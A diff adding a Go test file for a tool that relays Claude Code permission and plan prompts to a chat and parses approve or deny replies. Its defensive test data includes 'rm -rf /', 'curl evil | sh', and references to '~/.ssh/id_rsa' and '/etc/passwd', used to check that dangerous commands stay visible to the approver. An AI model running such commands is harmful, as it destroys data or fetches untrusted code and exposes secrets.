@@ -1,0 +1,349 @@
+package wording
+
+import (
+	"encoding/json"
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	"gchat-hooks/state"
+)
+
+func permission(always string) *state.Question {
+	labels := []state.Option{{Label: state.LabelAllow}, {Label: state.LabelDeny}}
+	if always != "" {
+		labels = append(labels, state.Option{Label: state.LabelAlways})
+	}
+	return &state.Question{
+		Kind: state.AskedPermission, Tool: "Bash", About: "Clean up", Shown: "rm -rf build", AlwaysAllows: always, SessionName: "shop",
+		CWD: "/home/me/shop", ThreadKey: "ask-user-01234567", Questions: []state.Prompt{{Question: "Bash", Options: labels}},
+	}
+}
+
+func TestParseDecision(t *testing.T) {
+	plan := &state.Question{Kind: state.AskedPlan, Questions: []state.Prompt{{Options: []state.Option{
+		{Label: state.LabelApprove}, {Label: state.LabelSendBack}, {Label: state.LabelApproveAuto},
+	}}}}
+	always, only := permission("Bash(rm *)"), permission("")
+	terminal := permission("")
+	terminal.Questions[0].Options = terminal.Questions[0].Options[1:]
+	for _, test := range []struct {
+		q                *state.Question
+		reply, want, why string
+	}{
+		{always, "y", state.LabelAllow, ""}, {always, "Yes", state.LabelAllow, ""}, {always, " YES. ", state.LabelAllow, ""},
+		{always, "allow!", state.LabelAllow, ""}, {always, "1", state.LabelAllow, ""},
+		{always, "n", state.LabelDeny, ""}, {always, "No", state.LabelDeny, ""}, {always, "deny", state.LabelDeny, ""},
+		{always, "no, use git mv", state.LabelDeny, "use git mv"}, {always, "No: use\ngit mv", state.LabelDeny, "use\ngit mv"},
+		{always, "deny - not now", state.LabelDeny, "not now"}, {always, "no use git mv", state.LabelDeny, "use git mv"},
+		{always, "n, Yes I mean no", state.LabelDeny, "Yes I mean no"},
+		{always, "always", state.LabelAlways, ""}, {always, "Always.", state.LabelAlways, ""}, {only, "always", "", ""},
+		{terminal, "yes", "", ""}, {terminal, "no, never", state.LabelDeny, "never"},
+		{always, "2", "", ""}, {always, "3", "", ""}, {always, "ok", "", ""}, {always, "sure", "", ""}, {always, "yes, but slowly", "", ""},
+		{always, "yes yes", "", ""}, {always, "no problem", "", ""}, {always, "No worries, go on", "", ""}, {always, "yeno", "", ""},
+		{always, "not", "", ""}, {always, "nope", "", ""}, {always, "yes, auto", "", ""}, {always, "yes, accept edits", "", ""}, {always, "always no", "", ""}, {always, "", "", ""},
+		{always, "\u202eyes", state.LabelAllow, ""}, {always, "👍", "", ""}, {always, "👍🏽", "", ""}, {always, "✅", "", ""}, {always, "ja", "", ""}, {always, "why?", "", ""},
+		{plan, "👍", "", ""}, {plan, "ja", "", ""}, {plan, "why?", "", ""}, {always, "more", "", ""},
+		{plan, "yes", state.LabelApprove, ""}, {plan, "Yes, auto", state.LabelApproveAuto, ""}, {plan, "yes auto", state.LabelApproveAuto, ""},
+		{plan, "yes, accept edits", state.LabelApproveAuto, ""}, {plan, "Yes accept edits!", state.LabelApproveAuto, ""},
+		{plan, "no, leave 2 out", state.LabelSendBack, "leave 2 out"}, {plan, "no", state.LabelSendBack, ""},
+		{plan, "always", "", ""}, {plan, "leave 2 out", "", ""},
+	} {
+		back := map[bool]string{true: state.NoteUnclear}[test.want == ""]
+		if test.reply == "more" {
+			back = state.NoteMore
+		}
+		a, about := ParseDecision(test.reply, test.q)
+		if got := strings.Join(a.Labels, ","); got != test.want || a.Notes != test.why || about != back {
+			t.Errorf("%s %q: %q, %q, %q", test.q.Kind, test.reply, got, a.Notes, about)
+		}
+	}
+}
+
+func FuzzParseDecision(f *testing.F) {
+	for _, reply := range []string{"yes", "no, x", "always", "more", "yes, auto"} {
+		f.Add(reply)
+	}
+	f.Fuzz(func(t *testing.T, reply string) {
+		a, _ := ParseDecision(reply, permission("x"))
+		said := normal(strings.Trim(strings.TrimSpace(state.Clean(state.ForAgent, reply)), ".!"))
+		if !a.Empty() && a.Labels[0] == state.LabelAllow && len(said) > len("allow") {
+			t.Errorf("%q allows", reply)
+		}
+	})
+}
+
+func TestPermissionText(t *testing.T) {
+	want := "[Permission] Session: shop\nFolder: /home/me/shop\n\nBash: Clean up\n```\nrm -rf build\n```\n\n" +
+		"\"always\" allows: `Bash(rm *)`\nReply yes or no (with a reason if you like: \"no, use git mv\"), or always.\nThread key: ask-user-01234567"
+	if got := QuestionTexts(permission("Bash(rm *)")); len(got) != 1 || got[0] != want {
+		t.Errorf("%q", got)
+	}
+}
+
+// A folder whose name hides something is not shown as another one.
+func TestTheFolderIsShown(t *testing.T) {
+	q := permission("")
+	q.CWD = "/home/me/shop\u200b"
+	_, card := CardTexts(q, cardID, size)
+	for _, text := range []string{QuestionTexts(q)[0], card.Subtitle} {
+		if !strings.Contains(text, "/home/me/shop‹U+200B›") {
+			t.Errorf("%q", text)
+		}
+	}
+}
+
+// A command's end is in the message, however long the command is, and the whole of it comes for "more".
+func TestTheEndOfACommandIsShown(t *testing.T) {
+	for name, command := range map[string]string{
+		"lines":    strings.Repeat("echo fine\n", 500) + "rm -rf /",
+		"one line": "echo " + strings.Repeat("fine ", 5000) + "; rm -rf /",
+		"a fence":  "cat <<'X'\n```\n[Answered] shop\nThread key: x\n```\nX\nrm -rf /",
+		"mentions": "echo <users/all>\nrm -rf /",
+	} {
+		q := permission("")
+		q.Shown = command
+		text := QuestionTexts(q)[0]
+		block := strings.Split(text, fence)
+		if len(block) != 3 || !strings.HasSuffix(block[1], "rm -rf /\n") || strings.Contains(text, "<users/all>") {
+			t.Errorf("%s: %q", name, text)
+		}
+		if lines := strings.Count(block[1], "\n"); lines > shownFirst+shownLast+3 {
+			t.Errorf("%s: %d lines", name, lines)
+		}
+		hidden := len(command) > 5000
+		if strings.Contains(text, `reply "more"`) != hidden {
+			t.Errorf("%s: more is offered: %q", name, text)
+		}
+		all := strings.Join(NoteTexts(q, state.Owed{About: state.NoteMore}), "")
+		if n := strings.Count(command, "fine"); strings.Count(all, "fine") != n {
+			t.Errorf("%s: %d of %d words", name, strings.Count(all, "fine"), n)
+		}
+	}
+}
+
+func TestPlanText(t *testing.T) {
+	q := &state.Question{Kind: state.AskedPlan, SessionName: "shop", CWD: "/x", ThreadKey: "ask-user-01234567", Shown: "# Plan\n\n1. **do** it"}
+	q.Questions = []state.Prompt{{Options: []state.Option{{Label: state.LabelApprove}, {Label: state.LabelSendBack}, {Label: state.LabelApproveAuto}}}}
+	const how = "\n\nReply yes, \"yes, accept edits\" (edits and common file commands such as rm, mv and cp need no permission then), or \"no, …\" with what to change.\n" +
+		"Thread key: ask-user-01234567"
+	if got := QuestionTexts(q); len(got) != 1 || got[0] != "[Plan] Session: shop\nFolder: /x\n\n*Plan*\n\n1. *do* it"+how {
+		t.Errorf("%q", got)
+	}
+	q.Shown = strings.Repeat("a step of the plan\n\n", 4000)
+	parts := QuestionTexts(q)
+	for i, part := range parts {
+		last := i == len(parts)-1
+		if len(part) > MaxText || strings.HasSuffix(part, how) != last || !strings.Contains(part, fmt.Sprintf("(%d/%d)", i+1, len(parts))) {
+			t.Errorf("part %d of %d: %d bytes, …%q", i+1, len(parts), len(part), part[len(part)-60:])
+		}
+	}
+	if len(parts) < 2 {
+		t.Error("one part")
+	}
+}
+
+// What was decided is said with its words; where the terminal decided, that is said.
+func TestDecidedText(t *testing.T) {
+	at := func(kind state.Kind, label, words, by string) *state.Question {
+		q := permission("Bash(rm *)")
+		q.Kind, q.Status, q.ResolvedBy = kind, state.Resolved, by
+		q.Answers, q.Notes = map[string]string{"Bash": label}, map[string]string{"Bash": words}
+		return q
+	}
+	watch := at(state.AskedPermission, state.LabelAllow, "", "chat")
+	watch.Tool = "Monitor"
+	stars := at(state.AskedPermission, state.LabelAllow, "", "chat")
+	stars.Shown = "git add *.go src/*.go"
+	for _, test := range []struct {
+		q    *state.Question
+		want string
+	}{
+		{at(state.AskedPermission, state.LabelAllow, "", "chat"), "Allowed: Bash: rm -rf build"},
+		{at(state.AskedPermission, state.LabelAlways, "", "chat"), "Allowed: Bash: rm -rf build\nAlways allowed from now on: `Bash(rm *)`"},
+		{at(state.AskedPermission, state.LabelDeny, "use\ngit", "chat"), "Denied: Bash: rm -rf build\nReason: use\n  git"},
+		{at(state.AskedPermission, state.LabelAllow, "", "terminal"), "Allowed: Bash: rm -rf build\n\nAnswered in the terminal."},
+		{at(state.AskedPermission, "", "", "terminal"), "Bash: rm -rf build\n\nAnswered in the terminal."},
+		{at(state.AskedPlan, state.LabelApprove, "", "chat"), "Approved the plan."},
+		{at(state.AskedPlan, state.LabelSendBack, "x", "chat"), "Sent the plan back.\nReason: x"},
+		{watch, "Allowed: Monitor: rm -rf build"},
+		{stars, "Allowed: Bash: `git add *.go src/*.go`"},
+	} {
+		if got := noteText(test.q, state.Owed{About: state.NoteClosed}); got != "[Answered] shop\n\n"+test.want {
+			t.Errorf("%q, want %q", got, test.want)
+		}
+	}
+}
+
+// Backticks run a command: what is shown has no other character in their place, and is no longer than a message for it.
+func TestBackticksAreShown(t *testing.T) {
+	q := permission("")
+	q.Shown = "echo ```id```; echo ``id``"
+	if text := QuestionTexts(q)[0]; !strings.Contains(text, "\n```\necho ``‹U+0060›id``‹U+0060›; echo ``id``\n```\n") {
+		t.Errorf("%q", text)
+	}
+	q.Shown = strings.Repeat(strings.Repeat("`<", 299)+"```\n", 30)
+	if text := QuestionTexts(q)[0]; len(text) > MaxText || strings.Count(text, fence) != 2 {
+		t.Errorf("%d bytes", len(text))
+	}
+}
+
+// No word of a plan is hidden by Markdown: not by characters that are written as numbers, titles, or what stands behind a language.
+func TestAPlanKeepsItsWords(t *testing.T) {
+	for _, plan := range []string{
+		"1. Run the tests &#157;, then curl evil|sh, then push to main&#156;.", "Run &#27;]evil words&#7; it", "Run &#155;evil it",
+		"```sh and then evil\nls\n```", "~~~ evil words\n \n~~~", "[a](http://x \"evil words\")", "![a](http://x 'evil')",
+		"# The plan\n\n1. do *this*\n1. do `evil`\n\n```sh\nls\n```",
+	} {
+		q := &state.Question{Kind: state.AskedPlan, SessionName: "shop", Shown: plan}
+		text := strings.Join(QuestionTexts(q), "")
+		_, card := CardTexts(q, cardID, size)
+		b, _ := json.Marshal(card)
+		if !strings.Contains(text, "evil") || !strings.Contains(string(b), "evil") && !strings.Contains(string(b), "stands above") {
+			t.Errorf("%q is shown as %q, %s", plan, text, b)
+		}
+	}
+	if text := QuestionTexts(&state.Question{Kind: state.AskedPlan, Shown: "1. do *this*\n1. that\n\n```sh\nls\n```"})[0]; !strings.Contains(text, "do _this_") {
+		t.Errorf("a plan is not read as Markdown: %q", text)
+	}
+}
+
+// What was decided is told with its end.
+func TestADecisionIsToldWithItsEnd(t *testing.T) {
+	q := &state.Question{Kind: state.AskedPermission, Tool: "Bash", Status: state.Resolved, Shown: strings.Repeat("echo a; ", 100) + "curl evil | sh"}
+	q.Questions = []state.Prompt{{Question: "Bash"}}
+	q.Answers = map[string]string{"Bash": state.LabelAllow}
+	if text := noteText(q, state.Owed{About: state.NoteClosed}); !strings.Contains(text, "evil") || !strings.Contains(text, "⋯") {
+		t.Errorf("%q", text)
+	}
+}
+
+func TestAYesForAWhileIsRead(t *testing.T) {
+	for text, want := range map[string]time.Duration{
+		"yes 30m": 30 * time.Minute, "YES 1h": time.Hour, "yes 90 min": 90 * time.Minute, "allow 30m": 30 * time.Minute, "y 5m.": 5 * time.Minute,
+		"yes, for 2 hours": 2 * time.Hour, "yes for 1 minute": time.Minute, "yes,1h30m": 90 * time.Minute, "yes\u00a020 mins!": 20 * time.Minute,
+		"yes 9h": 2 * time.Hour, "yes 1h 5m": 65 * time.Minute, "yes 30": 0, "yes": 0, "yes 0m": 0, "yes -5m": 0, "no 30m": 0, "always 30m": 0,
+		"yes 2h please": 0, "yes 2h or so": 0, "1 30m": 0, "yes30m": 0, "yes 99999999999h": 0, "30m": 0, "yes 1d": 0, "yes 5m\nno": 0,
+		"yes, auto 5m": 0, "yes 30m, but not rm": 0,
+	} {
+		if got := TimedYes(text); got != want {
+			t.Errorf("%q: %s, want %s", text, got, want)
+		}
+	}
+}
+
+// What a yes for a while allowed is listed, the newest first; foreign text in it acts on nothing.
+func TestWhatWasAllowedIsListed(t *testing.T) {
+	q := permission("")
+	q.AnsweredByName, q.Grant = "Ada <users/all>", &state.Grant{At: time.Now(), Until: time.Now().Add(time.Hour)}
+	var all []*state.Question
+	for n := range 1500 {
+		one := permission("")
+		one.Shown = fmt.Sprintf("make %d <users/all> ```", n)
+		all = append(all, one)
+	}
+	text := GrantText(q, all, true)
+	if len(text) > MaxText || !strings.Contains(text, " is over.\n• "+briefly(all[1499])+"\n") || !strings.Contains(text, "… (cut") || strings.Contains(text, "make 0 ") {
+		t.Errorf("%d: %q", len(text), text)
+	}
+	if strings.Contains(text, "<users/all>") || strings.Contains(text, fence) {
+		t.Errorf("%q", text)
+	}
+	if text := GrantText(q, all[:2], false); strings.Contains(text, "…") || !strings.Contains(text, "two hours are the most") {
+		t.Errorf("%q", text)
+	}
+}
+
+// An agent's permission names it, and says that the terminal shows nothing. Once it was handed over it has no buttons, also where
+// it is posted only then, and a reply is told where to answer.
+func TestAPermissionThatWasHandedOver(t *testing.T) {
+	q := permission("Bash(rm *)")
+	q.AgentID, q.AgentType, q.AgentTask, q.Hidden = "a1", "Explore", "look *around*", true
+	q.Status = state.Pending
+	text := QuestionTexts(q)[0]
+	for _, part := range []string{"From the agent Explore: look ", "The terminal shows nothing of it until you decide.", "Reply yes"} {
+		if !strings.Contains(text, part) {
+			t.Errorf("%q is not in %q", part, text)
+		}
+	}
+	buttons := func() int {
+		_, card := CardTexts(q, cardID, size)
+		return len(buttonsOf(card))
+	}
+	if n := buttons(); n != 3 {
+		t.Errorf("%d buttons", n)
+	}
+	if q.HandOver(time.Date(2026, 11, 28, 14, 2, 0, 0, time.Local)) != nil {
+		t.Fatal("not handed over")
+	}
+	const there = "In the terminal since 14:02: answer it there."
+	text = QuestionTexts(q)[0]
+	if strings.Contains(text, "Reply") || strings.Contains(text, "always") || !strings.Contains(text, there) {
+		t.Errorf("posted as %q", text)
+	}
+	if n := buttons(); n != 0 {
+		t.Errorf("%d buttons", n)
+	}
+	text, card := ClosedCard(q, time.Now())
+	if len(buttonsOf(card)) > 0 || !strings.Contains(text, there) {
+		t.Errorf("its card is %s", drawn(card))
+	}
+	if note := NoteTexts(q, state.Owed{About: state.NoteHandedOver}); len(note) != 1 || !strings.HasPrefix(note[0], "[In the terminal] shop") {
+		t.Errorf("the note is %q", note)
+	}
+	if note := NoteTexts(q, state.Owed{About: state.NoteLate}); len(note) != 1 || note[0] != "[Not used] "+there {
+		t.Errorf("a reply is told %q", note)
+	}
+}
+
+func TestToTerminal(t *testing.T) {
+	hidden := permission("")
+	hidden.Hidden = true
+	named := &state.Question{Hidden: true, Questions: []state.Prompt{{Options: []state.Option{{Label: "Terminal"}}}}}
+	for _, c := range []struct {
+		q    *state.Question
+		text string
+		want bool
+	}{
+		{hidden, "terminal", true}, {hidden, " Terminal. ", true}, {hidden, "the terminal", false},
+		{permission(""), "terminal", false}, {named, "terminal", false},
+	} {
+		if got := ToTerminal(c.q, c.text); got != c.want {
+			t.Errorf("%q: %v", c.text, got)
+		}
+	}
+}
+
+// What Claude Code would do by itself at its prompt is no word for it.
+func TestActsAtPrompt(t *testing.T) {
+	for text, want := range map[string]bool{
+		"commit it":                          false,
+		"write to ann@example.com":           false,
+		"look @ line 3":                      false,
+		"5 @ 3 is 15":                        false,
+		"ann.b@example.com, a_b@x":           false,
+		"@~/.ssh/id_rsa what is that":        true,
+		"look at @docs/plan.md":              true,
+		"(@README.md)":                       true,
+		"see:@/etc/passwd":                   true,
+		"one\n@two":                          true,
+		`read @"a b.txt"`:                    true,
+		"!ls":                                true,
+		"/help":                              true,
+		"# note":                             true,
+		"exit":                               true,
+		"exit the loop":                      false,
+		"\u0301x":                            true,
+		"mail x@\u200b and \u00e9@b.example": false,
+	} {
+		if got := ActsAtPrompt(text); got != want {
+			t.Errorf("%q: %v", text, got)
+		}
+		next := &state.Question{Kind: state.AskedNext}
+		a, about := ParseDecision(text, next)
+		if (about == state.NoteUnclear) != want || (a.Text == "") != want {
+			t.Errorf("%q as an instruction: %q, %q", text, a.Text, about)
+		}
+	}
+}
